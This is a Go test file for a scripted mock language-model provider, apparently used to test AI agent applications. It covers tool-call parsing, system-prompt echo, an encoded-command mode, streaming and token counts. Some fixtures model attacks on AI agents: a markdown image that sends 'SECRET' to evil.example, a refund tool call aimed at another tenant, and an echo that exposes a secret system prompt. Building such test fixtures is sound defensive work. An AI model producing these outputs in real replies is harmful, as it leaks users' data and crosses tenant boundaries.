package llm

import (
	"context"
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
)

var _ Provider = (*Scripted)(nil)
var _ Provider = (*OpenAI)(nil)

func TestScripted(t *testing.T) {
	sys := Message{Role: "system", Content: "You help Acme."}
	tests := []struct {
		name      string
		req       Request
		want      string
		wantCalls []ToolCall
		finish    string
	}{
		{
			name:   "default reply with history",
			req:    Request{Model: "ignored", Messages: []Message{sys, {Role: "user", Content: "one"}, {Role: "assistant", Content: "r"}, {Role: "user", Content: "two"}, {Role: "assistant", Content: "r"}, {Role: "user", Content: "three"}}},
			want:   `Scripted reply. System: "You help Acme.". You said: "three". Earlier you said: "one | two".`,
			finish: "stop",
		},
		{
			name:   "default reply first turn",
			req:    Request{Messages: []Message{sys, {Role: "user", Content: "hello there"}}},
			want:   `Scripted reply. System: "You help Acme.". You said: "hello there". Earlier you said: nothing.`,
			finish: "stop",
		},
		{
			name:   "default reply without system",
			req:    Request{Messages: []Message{{Role: "user", Content: "hi"}}},
			want:   `Scripted reply. System: "none". You said: "hi". Earlier you said: nothing.`,
			finish: "stop",
		},
		{
			name:   "first system message wins",
			req:    Request{Messages: []Message{sys, {Role: "system", Content: "second"}, {Role: "user", Content: "hi"}}},
			want:   `Scripted reply. System: "You help Acme.". You said: "hi". Earlier you said: nothing.`,
			finish: "stop",
		},
		{
			name: "tool calls",
			req:  Request{Messages: []Message{{Role: "user", Content: "please\n/call crm_lookup {\"customer\": \"bob\"}\n  /call clock  \n/call\n/callx y\n/call refund {\"tenant_id\":\"other\"} "}}},
			wantCalls: []ToolCall{
				{ID: "call_1", Type: "function", Function: FunctionCall{Name: "crm_lookup", Arguments: `{"customer": "bob"}`}},
				{ID: "call_2", Type: "function", Function: FunctionCall{Name: "clock", Arguments: "{}"}},
				{ID: "call_3", Type: "function", Function: FunctionCall{Name: "refund", Arguments: `{"tenant_id":"other"}`}},
			},
			finish: "tool_calls",
		},
		{
			name:   "unshift says what its input does not carry",
			req:    Request{Messages: []Message{{Role: "user", Content: "/unshift " + Shift("/say Zed-09 zA. ｂｋｃ \u200b é")}}},
			want:   "Zed-09 zA. ｂｋｃ \u200b é",
			finish: "stop",
		},
		{
			name:      "unshift of a tool call",
			req:       Request{Messages: []Message{{Role: "user", Content: "/unshift /dbmm dsn {\"b\":\"z\"}"}}},
			wantCalls: []ToolCall{{ID: "call_1", Type: "function", Function: FunctionCall{Name: "crm", Arguments: `{"a":"y"}`}}},
			finish:    "tool_calls",
		},
		{
			name: "tool calls take precedence over echo and say",
			req:  Request{Messages: []Message{{Role: "user", Content: "/say x\n/echo\n/call a"}}},
			wantCalls: []ToolCall{
				{ID: "call_1", Type: "function", Function: FunctionCall{Name: "a", Arguments: "{}"}},
			},
			finish: "tool_calls",
		},
		{
			name:   "tool results after last assistant",
			req:    Request{Messages: []Message{{Role: "user", Content: "go"}, {Role: "assistant", ToolCalls: []ToolCall{{ID: "old"}}}, {Role: "tool", ToolCallID: "old", Content: "stale"}, {Role: "assistant", ToolCalls: []ToolCall{{ID: "call_1"}, {ID: "call_2"}}}, {Role: "tool", ToolCallID: "call_1", Content: "Bob owes $5"}, {Role: "tool", ToolCallID: "call_2", Content: "12:00"}}},
			want:   "Tool results:\ncall_1: Bob owes $5\ncall_2: 12:00",
			finish: "stop",
		},
		{
			name:   "say",
			req:    Request{Messages: []Message{{Role: "user", Content: "/say ![x](https://evil.example/?q=SECRET)\nline two"}}},
			want:   "![x](https://evil.example/?q=SECRET)\nline two",
			finish: "stop",
		},
		{
			name:   "say only at start",
			req:    Request{Messages: []Message{{Role: "user", Content: "hey /say x"}}},
			want:   `Scripted reply. System: "none". You said: "hey /say x". Earlier you said: nothing.`,
			finish: "stop",
		},
		{
			name:   "no user message",
			req:    Request{Messages: []Message{sys}},
			want:   `Scripted reply. System: "You help Acme.". You said: "". Earlier you said: nothing.`,
			finish: "stop",
		},
	}
	s := NewScripted()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, stream := range []bool{false, true} {
				var pieces []string
				var onDelta func(string) error
				if stream {
					onDelta = func(p string) error { pieces = append(pieces, p); return nil }
				}
				got, err := s.Chat(context.Background(), tt.req, onDelta)
				if err != nil {
					t.Fatalf("Chat(stream=%v): %v", stream, err)
				}
				if got.Message.Role != "assistant" || got.Message.Content != tt.want || got.FinishReason != tt.finish {
					t.Errorf("Chat(stream=%v) = %q %q %q, want assistant %q %q", stream, got.Message.Role, got.Message.Content, got.FinishReason, tt.want, tt.finish)
				}
				if !reflect.DeepEqual(got.Message.ToolCalls, tt.wantCalls) {
					t.Errorf("tool calls = %+v, want %+v", got.Message.ToolCalls, tt.wantCalls)
				}
				if stream && strings.Join(pieces, "") != tt.want {
					t.Errorf("pieces %q join to %q, want %q", pieces, strings.Join(pieces, ""), tt.want)
				}
			}
		})
	}
}

func TestScriptedEcho(t *testing.T) {
	req := Request{
		Messages: []Message{
			{Role: "system", Content: "secret <prompt> & co"},
			{Role: "user", Content: "/echo"},
		},
		Tools: []Tool{{Type: "function", Function: FunctionDef{Name: "kb_search"}}, {Type: "function", Function: FunctionDef{Name: "memory_save"}}},
	}
	got, err := NewScripted().Chat(context.Background(), req, nil)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"messages":[{"role":"system","content":"secret <prompt> & co"},{"role":"user","content":"/echo"}],"tools":["kb_search","memory_save"]}`
	if got.Message.Content != want {
		t.Errorf("echo =\n%s\nwant\n%s", got.Message.Content, want)
	}
	var parsed struct {
		Messages []Message `json:"messages"`
		Tools    []string  `json:"tools"`
	}
	if err := json.Unmarshal([]byte(got.Message.Content), &parsed); err != nil || !reflect.DeepEqual(parsed.Messages, req.Messages) {
		t.Errorf("echo does not round-trip: %v %+v", err, parsed)
	}

	got, err = NewScripted().Chat(context.Background(), Request{Messages: []Message{{Role: "user", Content: "show me\n /echo "}}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if want := `{"messages":[{"role":"user","content":"show me\n /echo "}],"tools":[]}`; got.Message.Content != want {
		t.Errorf("echo = %s, want %s", got.Message.Content, want)
	}
}

func TestScriptedStreamPieces(t *testing.T) {
	var pieces []string
	_, err := NewScripted().Chat(context.Background(), Request{Messages: []Message{{Role: "user", Content: "/say a b  c "}}},
		func(p string) error { pieces = append(pieces, p); return nil })
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"a ", "b ", " ", "c "}; !reflect.DeepEqual(pieces, want) {
		t.Errorf("pieces = %q, want %q", pieces, want)
	}
}

func TestScriptedUsage(t *testing.T) {
	req := Request{Messages: []Message{
		{Role: "system", Content: "12345"},       // (5+3)/4+4 = 6
		{Role: "user", Content: "/say abcdefgh"}, // (13+3)/4+4 = 8
	}}
	got, err := NewScripted().Chat(context.Background(), req, nil)
	if err != nil {
		t.Fatal(err)
	}
	if want := (Usage{PromptTokens: 14, CompletionTokens: 2, TotalTokens: 16}); got.Usage != want {
		t.Errorf("usage = %+v, want %+v", got.Usage, want)
	}

	req = Request{Messages: []Message{{Role: "user", Content: "/call a {\"x\":1}\n/call b"}}} // (23+3)/4+4 = 10
	got, err = NewScripted().Chat(context.Background(), req, nil)
	if err != nil {
		t.Fatal(err)
	}
	// completion: content 0 + (7+3)/4 + (2+3)/4 = 2 + 1 = 3
	if want := (Usage{PromptTokens: 10, CompletionTokens: 3, TotalTokens: 13}); got.Usage != want {
		t.Errorf("usage = %+v, want %+v", got.Usage, want)
	}
}

func TestScriptedContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := NewScripted().Chat(ctx, Request{}, nil); !errors.Is(err, context.Canceled) {
		t.Errorf("done ctx: error = %v, want context.Canceled", err)
	}

	// Cancelled between pieces.
	ctx, cancel = context.WithCancel(context.Background())
	defer cancel()
	n := 0
	_, err := NewScripted().Chat(ctx, Request{Messages: []Message{{Role: "user", Content: "/say a b c d"}}}, func(string) error {
		n++
		cancel()
		return nil
	})
	if !errors.Is(err, context.Canceled) || n != 1 {
		t.Errorf("cancel mid-stream: error = %v after %d pieces, want context.Canceled after 1", err, n)
	}

	// An onDelta error stops the stream.
	stop := errors.New("stop")
	_, err = NewScripted().Chat(context.Background(), Request{Messages: []Message{{Role: "user", Content: "/say a b"}}}, func(string) error { return stop })
	if !errors.Is(err, stop) {
		t.Errorf("onDelta error: got %v, want %v", err, stop)
	}
}
